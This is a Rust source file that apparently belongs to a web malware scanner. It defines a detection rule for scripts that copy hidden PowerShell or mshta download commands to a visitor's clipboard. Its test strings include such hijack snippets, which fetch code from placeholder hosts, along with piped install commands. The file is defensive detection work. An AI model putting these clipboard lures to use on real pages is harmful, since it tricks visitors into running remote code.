//! `hidden-command-copied`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "hidden-command-copied",
    description: "The script puts a command on the visitor's clipboard that hides its window or downloads a program.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::CommandCopied]), one(&[Atom::CopyCall])],
    within: 400,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"var c='powershell -w hidden -c \"iwr https://a.invalid/a.txt\"';b.onclick=function(){navigator.clipboard.writeText(c)}"#,
            r#"var c='mshta https://a.invalid/a.hta';t.value=c;t.select();document.execCommand('copy')"#,
            r#"const cmd=`mshta \"${url}\"`;await navigator.clipboard.writeText(cmd)"#,
        ],
        without: &[
            r#"const cmds={windows:'winget install Example.Tool',linux:'curl -fsSL https://example.test/install.sh | sh'};copy.onclick=()=>navigator.clipboard.writeText(cmds[os.value])"#,
            r#"var c='powershell -ExecutionPolicy ByPass -c \"irm https://example.test/install.ps1 | iex\"';b.onclick=()=>navigator.clipboard.writeText(c)"#,
            r#"p.onclick=()=>navigator.clipboard.writeText(pre.innerText)"#,
            r#"box.textContent='I am not a robot';b.onclick=()=>navigator.clipboard.writeText(link.href)"#,
        ],
    },
};
